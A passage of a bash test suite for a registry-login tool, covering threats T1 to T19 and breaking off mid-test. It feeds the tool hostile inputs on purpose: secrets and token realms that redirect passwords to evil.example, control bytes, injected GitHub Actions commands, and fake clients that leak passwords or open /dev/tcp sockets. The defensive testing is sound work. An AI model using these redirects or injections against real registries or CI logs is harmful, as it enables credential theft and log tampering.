#!/usr/bin/env bash
# threats.sh: the threats that berth-run is built against, T1 to T25: one test each.
#
#   BERTH_RUN=build/dev/berth-run tests/threats.sh
#
# Ends with a table: each passed, failed, is not enforceable here (and why), or is not
# built yet.
set -uo pipefail
# shellcheck source=tests/runner_support.sh
source "$(dirname "${BASH_SOURCE[0]}")/runner_support.sh"

# shellcheck source=tests/ecr_support.sh
source "$tree/tests/ecr_support.sh"
network=()

write_plan plan.json "$host"
tool=(--tool skopeo --allow-insecure-loopback)
secrets=("${good[@]}")
clients=(skopeo)
for name in docker podman; do
    ! usable "$name" || clients+=("$name")
done

# --- the table ---
table=()
title='' failed_before=0 passed_before=0 note=''
close_threat() {
    local result=passed
    [ -n "$title" ] || return
    if [ "$failed" -gt "$failed_before" ]; then
        result=FAILED
    elif [ "$passed" -eq "$passed_before" ]; then
        result=${note:-"FAILED: nothing was checked"}
        note=
        [ "${result#FAILED}" = "$result" ] || failed=$((failed + 1))
    fi
    table+=("$(printf '%-46s %s (%d checks)%s' "$title" "$result" \
        $((passed - passed_before)) "${note:+; $note}")")
}
threat() { # number and words
    close_threat
    title=$1 failed_before=$failed passed_before=$passed note=''
}
not_here() { # why some of it cannot be checked on this machine
    note="not enforceable here: $1"
}
milliseconds() { # command: how long it takes, in `took`
    local start
    start=$(date +%s%N)
    "$@"
    took=$((($(date +%s%N) - start) / 1000000))
}
threat "T1 a plan that was tampered with"
secrets=()
cp plan.json loose.json && chmod g+w loose.json
run loose.json "${tool[@]}" --out t1
check "T1: its group may write it: before any secret is read" is 3
cp plan.json loose.json && chmod o+w loose.json
run loose.json "${tool[@]}" --out t1
check "T1: all may write it" is 3
ln -s plan.json link.json
run link.json "${tool[@]}" --out t1
check "T1: a link" is 3
run . "${tool[@]}" --out t1
check "T1: a directory" is 2
if [ "$(id -u)" -eq 0 ]; then
    cp plan.json foreign.json && chown 12345 foreign.json
    run foreign.json "${tool[@]}" --out t1
    refuse "T1: root reads no other user's plan" is 0
    check "T1: and says so" is 3
else
    not_here "only root can give a plan to another user"
fi
secrets=("${good[@]}")
digest=$(sha256sum <plan.json | cut -d' ' -f1)
run plan.json --tool none --out t1 --plan-sha256 "${digest/[0-8]/9}"
check "T1: another digest than was given" is 2
run plan.json --tool none --out t1 --plan-sha256 "$digest"
check "T1: the digest that was given" is 0

threat "T2 a pull request that changes the server"
mkdir -p home/.config/berth
printf '# ours\nA_ %s *.good.example\nA_CONTAINER_REGISTRY_PASSWORD_OLD *\n' "$host" >home/.config/berth/allow
run plan.json --tool none --out t2
check "T2: a server that is allowed" is 0
write_plan moved.json evil.example
for_server evil.example
client "$logs_in"
run moved.json "${made[@]}" --out t2.moved
check "T2: one that is not" is 3
check "T2: both are named" says "may not go to evil.example: $work/home/.config/berth/allow allows it for $host *.good.example"
secrets=()
run moved.json "${made[@]}" --out t2.moved
check "T2: before any secret is read" is 3
write_plan good.json r.good.example
for_server r.good.example
run good.json --tool none --out t2.good
check "T2: a pattern" is 0
printf 'B_ *\n' >home/.config/berth/allow
run good.json --tool none --out t2.good
check "T2: a secret that is not listed goes nowhere" is 3
chmod g+w home/.config/berth/allow
run good.json --tool none --out t2.good
check "T2: a policy that others may write is none" is 3
rm home/.config/berth/allow
run good.json --tool none --out t2.good --allow no-such-file
check "T2: one that is named must be there" is 2

threat "T3 a SERVER secret that was changed"
for value in evil.example "http://evil.example/v2/" "https://127.0.0.1:1"; do
    for_server "$value"
    run plan.json "${tool[@]}" --out t3
    check "T3: '$value' is another server" is 3
done
check "T3: both hosts are shown" sh -c 'grep -q 127.0.0.1:1 error && grep -q "$1" error' - "$host"
for value in "alice@$host" "alice:$password@$host" "$host?x" "$host#x" $'r\x01.example' "r\xc3\xa9.example" ""; do
    for_server "$value"
    run plan.json "${tool[@]}" --out t3
    check "T3: '$value' is no server" is 4
    refuse "T3: and what it holds is not shown" holds_secret out error
done
refuse "T3: nothing is stored" test -e t3

threat "T4 a secret that clients treat differently"
fake record record
write_plan record.json "$address"
sent() { # tool: the password that arrives, in hexadecimal
    : >record.log
    for_server "$address"
    secrets[2]=A_CONTAINER_REGISTRY_PASSWORD=$value
    run record.json --tool "$1" --allow-insecure-loopback --out t4
    [ "$1" != none ] || sed -n 's/.*"auth": "\([^"]*\)".*/[Basic \1]/p' t4 >record.log
    sed -n 's/.*\[Basic \(.*\)\]$/\1/p' record.log | tail -n 1 | base64 -d 2>/dev/null | cut -d: -f2-
}
long=$(head -c 7000 /dev/zero | tr '\0' p)
for value in "$password" 'p w' $'p\xc3\xa9w' $'p\xffw' "$long" $'pw\n' $'pw\r\n'; do
    for name in "${clients[@]}" none; do
        arrived=$(sent "$name")
        check "T4: $name sends '${value:0:20}' as it is" [ "$arrived" = "${value%%[$'\r\n']*}" ]
    done
done
client "$logs_in"
for value in $'pw\n\n' $'p\nw' ' pw' 'pw ' $'p\tw' $'p\x1b[31m' $'p\x7f' "$long$long" '' $'\n' '   '; do
    for_server "$address"
    secrets[2]=A_CONTAINER_REGISTRY_PASSWORD=$value
    : >record.log
    if command -v strace >/dev/null; then
        env -i HOME="$work/home" XDG_RUNTIME_DIR="$work/run" "${secrets[@]}" \
            ASAN_OPTIONS=detect_leaks=0 strace -f -qq -e trace=execve -o calls "$runner" record.json "${made[@]}" --out t4.refused >out 2>error
        status=$?
        check "T4: nothing is called for it" [ "$(grep -c execve calls)" -eq 1 ]
    else
        run record.json "${made[@]}" --out t4.refused
    fi
    check "T4: what is not the same everywhere is refused" is 4
    refuse "T4: and sent nowhere" test -s record.log
done
for_server "$address"
secrets[1]=A_CONTAINER_REGISTRY_USER=a:b
run record.json "${tool[@]}" --out t4.refused
check "T4: a user with a colon" is 4
secrets[1]=A_CONTAINER_REGISTRY_USER=_json_key
secrets[2]=$'A_CONTAINER_REGISTRY_PASSWORD={\n  "a": "b c",\r\n\t"d": [1]\n}\n'
for name in "${clients[@]}" none; do
    : >record.log
    run record.json --tool "$name" --allow-insecure-loopback --out t4.json
    [ "$name" != none ] || sed -n 's/.*"auth": "\([^"]*\)".*/[Basic \1]/p' t4.json >record.log
    check "T4: $name sends a Google key in one line" [ \
        "$(sed -n 's/.*\[Basic \(.*\)\]$/\1/p' record.log | tail -n 1 | base64 -d)" = '_json_key:{"a":"b c","d":[1]}' ]
done
secrets[2]=$'A_CONTAINER_REGISTRY_PASSWORD={\n"a": \n'
run record.json "${tool[@]}" --out t4.refused
check "T4: but it must be JSON" is 4
refuse "T4: nothing of these is stored" test -e t4.refused

threat "T5 a secret that is missing or empty"
write_plan three.json a.example b.example c.example
secrets=(A_CONTAINER_REGISTRY_SERVER=a.example A_CONTAINER_REGISTRY_USER=
    A_CONTAINER_REGISTRY_PASSWORD=x B_CONTAINER_REGISTRY_SERVER=b.example
    B_CONTAINER_REGISTRY_USER=bob "B_CONTAINER_REGISTRY_PASSWORD=  ")
client "$logs_in"
run three.json "${made[@]}" --out t5
check "T5: it is a 4" is 4
for words in "A_CONTAINER_REGISTRY_USER is empty" \
    "B_CONTAINER_REGISTRY_PASSWORD holds nothing but blanks" \
    "C_CONTAINER_REGISTRY_SERVER is not set" "C_CONTAINER_REGISTRY_USER is not set" \
    "C_CONTAINER_REGISTRY_PASSWORD is not set"; do
    check "T5: one run tells all: $words" says "$words"
done
refuse "T5: nothing is stored" test -e t5

threat "T6 an empty server, which clients take for Docker Hub"
sed 's/"expect": "[^"]*"/"expect": ""/' plan.json >hub.json
secrets=("${good[@]}")
run hub.json "${tool[@]}" --out t6
check "T6: in a plan" is 2
for_server ''
run plan.json "${tool[@]}" --out t6
check "T6: in a secret" is 4
write_plan hub.json docker.io
for value in docker.io https://index.docker.io/v1/; do
    for_server "$value"
    run hub.json --tool none --out t6.hub
    check "T6: '$value' is Docker Hub" is 0
done
check "T6: under the key that all find" grep -q '"https://index.docker.io/v1/"' t6.hub

threat "T7 a file that is linked, foreign or open"
secrets=("${good[@]}")
printf '{}\n' >real.json
ln -s real.json t7.link
run plan.json --tool none --out t7.link
check "T7: a link" is 3
check "T7: what it leads to is left alone" [ "$(cat real.json)" = '{}' ]
printf '{}\n' >t7.open && chmod 666 t7.open
run plan.json --tool none --out t7.open
check "T7: a file that all may write becomes private" [ "$(stat -c %a t7.open)" = 600 ]
mkdir -m 777 open
run plan.json --tool none --out open/config.json
check "T7: a directory that all may write" is 3
mkdir -m 1777 sticky
run plan.json --tool none --out sticky/config.json
check "T7: unless it keeps each one's files apart" is 0
mkfifo t7.pipe
run plan.json --tool none --out t7.pipe
check "T7: a pipe" is 3
if [ "$(id -u)" -eq 0 ]; then
    printf '{}\n' >t7.foreign && chown 12345 t7.foreign
    run plan.json --tool none --out t7.foreign
    check "T7: another user's file" is 3
else
    mkdir -m 500 closed
    client "$logs_in"
    run plan.json "${made[@]}" --out closed/config.json
    check "T7: a directory that may not be written, before a login" is 3
    not_here "only root can give a file to another user"
fi

threat "T8 a file that is malformed, or whose logins nobody reads"
client "$logs_in"
n=0
for text in '{"auths": {' '{"auths": []}' '[]' '{"auths": {"x": {}, "x": {}}}' '{} x' \
    '{"credsStore": "pass"}' "{\"credHelpers\": {\"$host\": \"x\"}}" '{"auths": {"x": {}},}' \
    '{"credsstore": "pass"}' '{"auths": {}, "Auths": {}}' '{"CREDHELPERS": {}}'; do
    n=$((n + 1))
    printf '%s' "$text" >"t8.$n" && cp "t8.$n" before
    run plan.json "${made[@]}" --out "t8.$n"
    check "T8: '$text' is refused" is 3
    check "T8: and stays as it is" cmp -s "t8.$n" before
done
printf '{"auths": {}}' >t8.client
run plan.json "${tool[@]}" --store client --out "$work/t8.client"
check "T8: the client's own store is another way" is 0
printf '{"auths": {' >t8.client && cp t8.client before
run plan.json "${tool[@]}" --store client --out "$work/t8.client"
check "T8: but not into a file that is malformed" is 3
check "T8: which stays as it is" cmp -s t8.client before
mkdir -p home/.docker && printf '{"credsStore": "pass"}' >home/.docker/config.json
run plan.json --tool none -- true
check "T8: a private directory is shadowed by nothing" is 0
rm -r home/.docker

threat "T9 what else is in the file"
printf '\xef\xbb\xbf{ "a" : 1.50e+3,\n\t"\\u0061uth" : "\\/",\r\n "auths" : { "x.example" : {"auth":"eA==" , "z": null} } ,"last": [ ] }\n \n' >t9
cp t9 before
run plan.json --tool none --out t9
check "T9: it is kept" is 0
run plan.json --tool none --logout --out t9
check "T9: to the byte, but for the login" cmp -s t9 before
nest() { # depth
    printf '{"x": '
    head -c "$1" /dev/zero | tr '\0' '['
    head -c "$1" /dev/zero | tr '\0' ']'
    printf '}'
}
nest 64 >t9.deep
run plan.json --tool none --out t9.deep
check "T9: more than 64 levels" is 3
{ printf '{"x": "' && head -c 1048576 /dev/zero | tr '\0' x && printf '"}'; } >t9.large
run plan.json --tool none --out t9.large
check "T9: more than 1 MiB" is 3

threat "T10 runs at the same time"
pids=()
for i in $(seq 24); do
    write_plan "many$i.json" "r$i.example"
    env -i HOME="$work/home" XDG_RUNTIME_DIR="$work/run" \
        A_CONTAINER_REGISTRY_SERVER="r$i.example" A_CONTAINER_REGISTRY_USER=bob \
        A_CONTAINER_REGISTRY_PASSWORD=x "$runner" "many$i.json" --tool none \
        --out t10 >/dev/null 2>&1 &
    pids+=($!)
done
for pid in "${pids[@]}"; do wait "$pid"; done
check "T10: 24 runs keep 24 logins" [ "$(entries t10)" -eq 24 ]
printf '{"auths":{}}' >t10.raw
pids=()
for i in $(seq 8); do
    clean skopeo login --authfile t10.raw --tls-verify=false -u "$user" --password-stdin \
        "$host" <<<"$password" >/dev/null 2>&1 &
    pids+=($!)
done
write_plan beside.json beside.example
for_server beside.example
run beside.json --tool none --out t10.raw
for pid in "${pids[@]}"; do wait "$pid"; done
check "T10: beside plain logins it is stored, or said not to be" \
    sh -c '[ "$1" = 0 ] || { [ "$1" = 3 ] && grep -q "at the same time" error; }' - "$status"
run beside.json --tool none --out t10.raw
check "T10: afterwards it is there" grep -q beside.example t10.raw
mkdir held
exec 8<held
bash -c 'flock -x 8; kill -KILL $$' 2>/dev/null
exec 8<&-
run beside.json --tool none --out held/config.json
check "T10: the lock of a dead process is none" is 0
exec 8<held
flock -x 8
env -i HOME="$work/home" XDG_RUNTIME_DIR="$work/run" "${secrets[@]}" "$runner" beside.json \
    --tool none --out held/config.json --timeout 1 >out 2>error &
waiting=$!
sleep 0.5
check "T10: meanwhile a run without a client can open no connection" \
    grep -q '^Seccomp:.*2$' "/proc/$waiting/status"
wait "$waiting"
status=$?
check "T10: the lock of a live process is waited for, so long" is 5
exec 8<&-

threat "T11 a plan of which one login fails"
fake second record
other=$address
fake denies echo
write_plan three.json "$host" "$address" "$other"
secrets=("${good[@]}")
for letter in B C; do
    secrets+=("${letter}_CONTAINER_REGISTRY_USER=bob" "${letter}_CONTAINER_REGISTRY_PASSWORD=$password")
done
secrets+=(B_CONTAINER_REGISTRY_SERVER="$address" C_CONTAINER_REGISTRY_SERVER="$other")
printf '{"auths": {"x": {"auth": "eA=="}}}' >t11 && cp t11 before
run three.json "${tool[@]}" --out t11
check "T11: it is denied" is 1
check "T11: the file is as it was" cmp -s t11 before
for words in "step 1, $host: verified, but not stored" "step 2, $address: failed" \
    "step 3, $other: verified, but not stored"; do
    check "T11: $words" says "$words"
done
run three.json "${tool[@]}" --out t11 --keep-going
check "T11: what worked is kept on demand" is 6
check "T11: all of it" [ "$(entries t11)" -eq 3 ]

threat "T12 a run that is killed while it writes"
secrets=("${good[@]}")
if command -v strace >/dev/null; then
    client "$logs_in"
    printf '{"auths": {"x": {"auth": "eA=="}}}' >before
    cp before t12
    run plan.json "${made[@]}" --out t12
    cp t12 after
    trace() { # words for strace
        cp before t12
        rm -f .t12.berth-run.stored
        env -i HOME="$work/home" XDG_RUNTIME_DIR="$work/run" "${secrets[@]}" \
            ASAN_OPTIONS=detect_leaks=0 strace -qq "$@" "$runner" plan.json "${made[@]}" --out t12 >/dev/null 2>&1
    }
    calls=openat,write,fsync,fchmod,renameat,unlinkat,close,flock,mkdir,unlink
    trace -e trace="$calls" -o calls
    # Each call by its name and how many of that name came before: all from the lock of
    # the file on, and some from before.
    awk '{ sub(/\(.*/, ""); n[$0]++ } /^flock/ { locked++ }
        { print (locked >= 2 ? "late" : "early"), $0, n[$0] }' calls >numbered
    { grep '^late' numbered && grep '^early' numbered | shuf -n 40 --random-source=/dev/zero; } |
        cut -d' ' -f2- >points
    killed=0 torn=0
    while read -r call at; do
        trace -o /dev/null -e trace="$call" -e "inject=$call:signal=KILL:when=$at"
        [ $? -lt 128 ] || killed=$((killed + 1))
        cmp -s t12 before || cmp -s t12 after || torn=$((torn + 1))
    done <points
    check "T12: killed at $killed points" [ "$killed" -ge 50 ]
    check "T12: the file is the old or the new one" [ "$torn" -eq 0 ]
    run plan.json "${made[@]}" --out t12
    check "T12: the next run works" is 0
    check "T12: and stores" cmp -s t12 after
    refuse "T12: no directory is left" leftovers
    refuse "T12: nor a file beside" test -e .t12.berth-run
else
    not_here "strace is not installed"
fi

threat "T13 a token of ECR that has expired"
if start_ecr; then
    token_until() { # seconds since 1970: as a token of ECR says it
        printf '{"payload":"c4nary","version":"2","type":"DATA_KEY","expiration":%s}' "$1" | base64 -w0
    }
    plan_for "$private" ecr-token
    secrets[1]=A_CONTAINER_REGISTRY_USER=AWS
    secrets[2]=A_CONTAINER_REGISTRY_PASSWORD=$(token_until 1700000000)
    client "$logs_in"
    run plan.json "${made[@]}" --out t13
    check "T13: it is a 4" is 4
    check "T13: that tells when" says 'A_CONTAINER_REGISTRY_PASSWORD is a token of ECR that has expired at 2023-11-14T22:13:20Z'
    refuse "T13: nothing is stored" test -e t13
    secrets[2]=A_CONTAINER_REGISTRY_PASSWORD=$(token_until $(($(date +%s) + 600)))
    run plan.json "${made[@]}" --out t13 --json
    check "T13: one that has not is used" is 0
    check "T13: and its end is told" grep -q '"expires_at":"20' out
    plan_for "$private"
    give "https://$private" 1700000000
    run plan.json "${made[@]}" --network-environment --out t13.late
    check "T13: one that comes too late is not" is 1
    refuse "T13: nor stored" test -e t13.late
    give "https://$private"
    htpasswd -Bbn -C 5 AWS another >ecr.htpasswd 2>/dev/null
    run plan.json --tool skopeo --network-environment --out t13.late
    check "T13: one that the registry refuses" is 1
    check "T13: is asked for once" [ "$(calls)" -eq 1 ]
    htpasswd -Bbn -C 5 AWS "$token" >ecr.htpasswd 2>/dev/null
    give "https://$private"
    run plan.json --tool skopeo --network-environment -- /bin/sh -c 'cat "$REGISTRY_AUTH_FILE"' >/dev/null
    kept() { grep -rqF "$(printf 'AWS:%s' "$token" | base64 -w0)" home run t13*; }
    refuse "T13: a token is nowhere but where its login is" kept
else
    note="not enforceable here: openssl or fake_internet (libssl-dev) is not there"
fi

threat "T14 a wrong exchange for a token of ECR"
if [ ${#network[@]} -gt 0 ]; then
    client "$logs_in"
    plan_for "$private"
    give "https://$private"
    run plan.json "${made[@]}" --network-environment --out t14
    check "T14: a long-term key is swapped" is 0
    check "T14: by one request" [ "$(calls)" -eq 1 ]
    give "https://$private"
    secrets[1]=A_CONTAINER_REGISTRY_USER=AWS secrets[2]=A_CONTAINER_REGISTRY_PASSWORD=$token
    run plan.json "${made[@]}" --network-environment --out t14
    check "T14: user AWS has a token already" is 0
    check "T14: and nobody is asked for one" [ "$(calls)" -eq 0 ]
    secrets[1]=A_CONTAINER_REGISTRY_USER=ASIAEXAMPLEEXAMPLE00
    : >internet.log
    run plan.json "${made[@]}" --network-environment --out t14.refused
    check "T14: a temporary key" is 4
    check "T14: is said to be one" says 'A_CONTAINER_REGISTRY_USER holds a temporary access key'
    refuse "T14: before anything is sent" test -s internet.log
    secrets[1]=A_CONTAINER_REGISTRY_USER=alice
    run plan.json "${made[@]}" --network-environment --out t14.refused
    check "T14: no key at all" is 4
    for endpoint in "https://999999999999.dkr.ecr.eu-central-1.amazonaws.com" \
        "https://$account.dkr.ecr.us-east-1.amazonaws.com" https://evil.example \
        "https://$private.evil.example" ''; do
        plan_for "$private"
        give "$endpoint"
        run plan.json "${made[@]}" --network-environment --out t14.refused
        check "T14: a token for '$endpoint'" is 3
    done
    for server in "$account.dkr.ecr.evil.example" "$account.dkr.ecr.xx-east-1.amazonaws.com" \
        "$account.dkr.ecr.us-east-1.amazonaws.com.evil.example" "x$private" evil.example; do
        plan_for "$server"
        give "https://$server"
        run plan.json "${made[@]}" --network-environment --out t14.refused
        check "T14: $server is no registry of ECR" is 3
        check "T14: nobody is asked for it" [ "$(calls)" -eq 0 ]
    done
    refuse "T14: nothing of these is stored" test -e t14.refused
else
    note="not enforceable here: openssl or fake_internet (libssl-dev) is not there"
fi
write_plan plan.json "$host"
secrets=("${good[@]}")

threat "T15 a secret in a command line, an environment or a log"
fake hung hang
write_plan hung.json "$address"
for_server "$address"
env -i HOME="$work/home" XDG_RUNTIME_DIR="$work/run" "${secrets[@]}" "$runner" hung.json \
    "${tool[@]}" --out t15 --timeout 2 --json >hung.out 2>&1 &
hung=$!
sleep 1
cat /proc/[0-9]*/cmdline 2>/dev/null | tr '\0' '\n' >lines
refuse "T15: no command line holds it" holds_secret lines
called=0
for pid in $(children "$hung"); do
    called=$((called + 1))
    check "T15: meanwhile what it has called runs" alive "$pid"
    refuse "T15: whose environment has none of ours" grep -qa -e CONTAINER_REGISTRY -e c4nary "/proc/$pid/environ"
    check "T15: nor has it our files open" [ "$(find "/proc/$pid/fd" -lname '/proc/*' -o -lname '*signalfd*' 2>/dev/null | wc -l)" -eq 0 ]
    check "T15: it gains no privilege" grep -q '^NoNewPrivs:.*1$' "/proc/$pid/status"
    check "T15: it leaves no core file" grep -q '^Max core file size  *0 ' "/proc/$pid/limits"
done
check "T15: which is a client, and a gate" [ "$called" -eq 2 ]
check "T15: nor does the run" grep -q '^Max core file size  *0 ' "/proc/$hung/limits"
refuse "T15: no file holds it" holds_secret run home
if [ "$(id -u)" -eq 0 ]; then
    refuse "T15: the run's environment does not hold it any more" grep -qa c4nary "/proc/$hung/environ"
else
    refuse "T15: another process of the same user reads no memory of it" cat "/proc/$hung/environ"
fi
wait "$hung"
refuse "T15: nor what it printed" holds_secret hung.out
if [ "$(id -u)" -eq 0 ] && command -v setpriv >/dev/null; then
    mkdir -m 755 nobody nobody/run && cp "$runner" nobody/berth-run && cp hung.json nobody/
    chmod 711 . && chown -R 65534 nobody && chmod 644 nobody/hung.json
    as_nobody() { setpriv --reuid=65534 --regid=65534 --clear-groups env -i HOME="$work/nobody" XDG_RUNTIME_DIR="$work/nobody/run" PATH=/usr/bin:/bin "$@"; }
    as_nobody "${secrets[@]}" "$work/nobody/berth-run" "$work/nobody/hung.json" "${tool[@]}" \
        --out "$work/nobody/out" --timeout 2 >/dev/null 2>&1 &
    hung=$!
    sleep 1
    refuse "T15: another process of the same user reads no memory of it" \
        as_nobody cat "/proc/$hung/environ"
    wait "$hung"
    chmod 700 .
elif [ "$(id -u)" -eq 0 ]; then
    not_here "for root every process is open to look into, and there is no setpriv"
fi
client 'read -r password; echo "you are $* with $password"
printf "%s\n" "$password" >&2; exit 1'
for_server "$host"
run plan.json "${made[@]}" --out t15
check "T15: a client that repeats it" is 1
refuse "T15: is not repeated" holds_secret out error
check "T15: but for what is no secret" says '•••'
run plan.json "${made[@]}" --out t15 --json
refuse "T15: JSON has nothing of it" holds_secret out error
client 'read -r password; printf "%s" "'"$basic"'" >&2; exit 1'
run plan.json "${made[@]}" --out t15
refuse "T15: nor what a client makes of it" holds_secret out error
check "T15: which was there to be hidden" says '•••'

threat "T16 bytes that a terminal obeys"
client 'printf "\033[31mred\033[0m\007 \177 \302\233x \377 \r\nnext\n" >&2; exit 1'
run plan.json "${made[@]}" --out t16
refuse "T16: a client's control bytes are not passed on" grep -qaP '[\x00-\x09\x0b-\x1f\x7f]|\xc2[\x80-\x9f]' error
check "T16: but shown" says '\x1B[31mred\x1B[0m\x07 \x7F \xC2\x9Bx \xFF \x0D'
client 'printf "::set-output name=a::b\n::add-mask::x\n"; exit 1'
run plan.json "${made[@]}" --out t16
refuse "T16: nor are commands of Actions" grep -q '^ *::' error
client 'echo "  ::error::x"; echo "words ##[set-output name=a]b"
/bin/bash -c "exec 3<>/dev/tcp/127.0.0.1/\${HTTPS_PROXY##*:}; printf \"CONNECT ##[debug]x:1 HTTP/1.1\\r\\n\\r\\n\" >&3; read -r line <&3"
exit 1'
run plan.json "${made[@]}" --out t16 --json
refuse "T16: nor those that stand within a line" grep -q -e '^ *::' -e '##\[' out error
check "T16: which are shown" says 'words \u0023#[set-output name=a]b'
check "T16: in JSON too" prints 'it leads to \u0023#[debug]x:1, which'
command -v python3 >/dev/null && check "T16: which stays JSON" python3 -m json.tool out /dev/null
fake echoes echo
write_plan echo.json "$address"
for_server "$address"
for name in "${clients[@]}"; do
    run echo.json --tool "$name" --allow-insecure-loopback --out t16
    check "T16: $name: a registry that sends them back" is 1
    refuse "T16: $name: is not repeated" holds_secret out error
    refuse "T16: $name: in no way" grep -qa $'\x1b' error
done

threat "T17 a plan that is huge or hostile"
secrets=("${good[@]}")
at_once=300
! grep -qa __asan_init "$runner" || at_once=3000
sizes() { # file: whether it is refused, and at once
    milliseconds run "$1" --tool none --out t17
    check "T17: $1 is a 2" is 2
    check "T17: at once ($took ms)" [ "$took" -lt "$at_once" ]
}
head -c 1048577 /dev/zero | tr '\0' ' ' >large
truncate -s 1G sparse
mkfifo fifo
{ printf '{"version": 1, "steps": [' && head -c 900000 /dev/zero | tr '\0' '[' && printf ']'; } >deep
{ printf '{"version": 1, "steps": [' && yes '{},' | head -n 250000 | tr -d '\n' && printf '{}]}'; } >wide
step='{"registry": "a.example", "method": "basic", "server": {"expect": "a.example"}, "username": {"env": "U"}, "password": {"env": "P"}, "images": []}'
{
    printf '{"version": 1, "repository": "o/r", "configuration": "c", "target": "local", "without_login": [], "blocked": [], "steps": ['
    for i in $(seq 256); do printf '%s,' "$step"; done
    printf '%s]}' "$step"
} >many
for file in large sparse fifo /dev/zero deep wide many; do sizes "$file"; done
check "T17: 256 steps is the most" says '256 steps'
if [ "$(uname -m)" = x86_64 ] && command -v perl >/dev/null && ! grep -qa __asan_init "$runner"; then
    for file in large deep wide many; do
        # getrusage is call 98; its maximum is behind two times
        perl -e '$b = "\0" x 144; system(@ARGV); syscall(98, -1, $b); print unpack("x32 q", $b), "\n"' \
            "$runner" "$file" --tool none --out t17 >out 2>error
        memory=$(tail -n 1 out)
        check "T17: $file takes little memory ($memory KiB)" [ "$memory" -lt 16384 ]
    done
fi

threat "T18 a registry or a client that hangs"
quickly() { # what, words: a run of 2 s, that leaves no process
    local what=$1
    shift
    milliseconds run "$@" --timeout 2 --out t18
    check "T18: $what ends in time" is 5
    check "T18: close to it ($took ms)" [ "$took" -lt 5000 ]
}
nobody_sleeps() { ! grep -qa "^sleep.$1" /proc/[0-9]*/cmdline 2>/dev/null; }
for mode in hang drip; do
    fake "$mode" "$mode"
    write_plan "$mode.json" "$address"
    for_server "$address"
    for name in "${clients[@]}"; do
        [ "$name/$mode" != docker/hang ] || continue # docker needs 25 s: as skopeo
        quickly "$name: $mode" "$mode.json" --tool "$name" --allow-insecure-loopback
    done
done
for_server "$host"
client 'trap "" TERM HUP INT; /bin/sleep 61; /bin/sleep 61; /bin/sleep 61'
quickly "a client that ignores signals" plan.json "${made[@]}"
check "T18: none of it is left" nobody_sleeps 61
client '/bin/sleep 62 & /bin/sleep 62 & exit 1'
milliseconds run plan.json "${made[@]}" --timeout 2 --out t18
check "T18: a client that leaves others behind with its output ($took ms)" [ "$took" -lt 5000 ]
check "T18: they are ended" nobody_sleeps 62
client '/usr/bin/setsid /bin/sleep 63 & /usr/bin/setsid /bin/sh -c "/bin/sleep 63; :" & exit 1'
milliseconds run plan.json "${made[@]}" --timeout 2 --out t18
check "T18: in sessions of their own too ($took ms)" nobody_sleeps 63
client '/usr/bin/setsid /bin/sleep 64 & /bin/sleep 64'
quickly "and when it is late itself" plan.json "${made[@]}"
check "T18: none of these is left" nobody_sleeps 64
client 'while :; do echo aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa; done'
quickly "endless output" plan.json "${made[@]}"
check "T18: of which little is shown" [ "$(wc -c <error)" -lt 200000 ]
client "$logs_in"'
kill -TERM $PPID; /bin/sleep 0.2'
run plan.json "${made[@]}" --out t18
check "T18: a signal during the last login ends the run" is 143
refuse "T18: and nothing is stored" test -e t18

# What a password was sent to arrives in the log of the one who should not get it.
fake evil token /dev/null
evil=$address
robbed() { grep -q '\[Basic ' evil.log; }
without_ports=
run plan.json --dry-run
! prints 'holds a client to no ports' && ! prints 'no Landlock' || without_ports=yes

threat "T19 a realm on another host"
if ! command -v openssl >/dev/null ||
    ! openssl req -x509 -newkey rsa:2048 -nodes -days 2 -subj /CN=x -keyout any.key -out any.crt 2>/dev/null ||
    ! access="token: {realm: \"https://evil.example/token\", service: x, issuer: x, rootcertbundle: $work/any.crt}" serve asks ||
    ! internet "r.example=$address" "evil.example=$evil"; then
    not_here "openssl or fake_internet (libssl-dev) is not there: no real names"
else
    write_plan realm.json r.example
    for name in "${clients[@]}"; do
        for_server r.example
        secrets+=("${network[@]}")
        : >evil.log && : >internet.log
        run realm.json --tool "$name" --network-environment --out t19
        check "T19: $name: it is a 1" is 1
        check "T19: $name: the host is named" says 'it leads to evil.example:443, which is not a host of the plan'
        refuse "T19: $name: and gets not one byte" test -s evil.log
        refuse "T19: $name: since nobody connects to it" reached evil.example
        check "T19: $name: though the registry was reached" reached r.example
        run realm.json --tool "$name" --network-environment --check
        check "T19: $name: --check blames the server" prints 'fault: server: it leads to evil.example:443'
        refuse "T19: $name: without a byte either" test -s evil.log
        run realm.json --tool "$name" --network-environment --out t19 --allow-host evil.example
        check "T19: $name: where it is allowed, it gets the password" robbed
    done
    # A kernel without Landlock: the gate alone.
    for name in "${clients[@]}"; do
        command -v strace >/dev/null || break
        for_server r.example
        : >evil.log && : >internet.log
        env -i PATH=/usr/bin:/bin HOME="$work/home" XDG_RUNTIME_DIR="$work/run" "${secrets[@]}" "${network[@]}" \
            ASAN_OPTIONS=detect_leaks=0 strace -f -qq -o calls -e trace=landlock_create_ruleset \
            -e inject=landlock_create_ruleset:error=ENOSYS "$runner" realm.json --tool "$name" \
            --network-environment --out t19 >out 2>error
        status=$?
        check "T19: $name: without Landlock too" is 1
        check "T19: $name: which was taken away" grep -q INJECTED calls
        refuse "T19: $name: not one byte" test -s evil.log
    done
    # Plain HTTP would go around a proxy for HTTPS.
    access="token: {realm: \"http://evil.example/token\", service: x, issuer: x, rootcertbundle: $work/any.crt}" serve plainly
    internet "r.example=$address" "evil.example=$evil"
    for name in "${clients[@]}"; do
        for_server r.example
        secrets+=("${network[@]}")
        run realm.json --tool "$name" --network-environment --out t19
        check "T19: $name: a realm in the clear is a 1" is 1
        check "T19: $name: and is named" says 'it leads to evil.example, which is not a host of the plan'
        run realm.json --tool "$name" --network-environment --out t19 --allow-host evil.example
        check "T19: $name: even where its host is allowed" is 1
        refuse "T19: $name: since it is not reached in the clear" reached evil.example
    done
    refuse "T19: nothing is stored" test -e t19
fi
# Where the tokens of a registry are known to come from, is no other host.
printf x >any.token
export BASIC=$basic
fake tokens token "$work/any.token"
unset BASIC
tokens=$address
for pair in docker.io=auth.docker.io registry.gitlab.com=gitlab.com; do
    fake asks realm "https://${pair#*=}/token"
    internet "registry-1.docker.io=$address" "registry.gitlab.com=$address" "${pair#*=}=$tokens" || continue
    write_plan known.json "${pair%=*}"
    for name in "${clients[@]}"; do
        for_server "${pair%=*}"
        secrets+=("${network[@]}")
        run known.json --tool "$name" --network-environment --out "t19.$name" --require-verified
        check "T19: $name: ${pair%=*} has its tokens at ${pair#*=}" is 0
        check "T19: $name: which was asked" reached "${pair#*=}"
    done
